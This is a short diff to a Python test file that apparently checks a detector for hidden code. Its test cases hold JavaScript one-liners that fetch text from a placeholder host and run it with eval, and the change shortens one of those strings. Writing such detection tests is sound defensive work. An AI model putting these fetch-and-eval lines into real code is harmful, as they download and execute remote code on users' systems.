@@ -74,7 +74,7 @@ def test_hidden_code_becomes_a_layer(text: str, step: str) -> None:
     [
         ("fetch('http://h.example').then(r => r.text()).then(t => eval(t))", "eval", Source.REMOTE_CONTENT),
         (
-            "https = require('https'); https.get('h', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
+            "require('https').get('h', r => { let b = ''; r.on('data', d => b += d); r.on('end', () => eval(b)) })",
             "eval",
             Source.REMOTE_CONTENT,
         ),
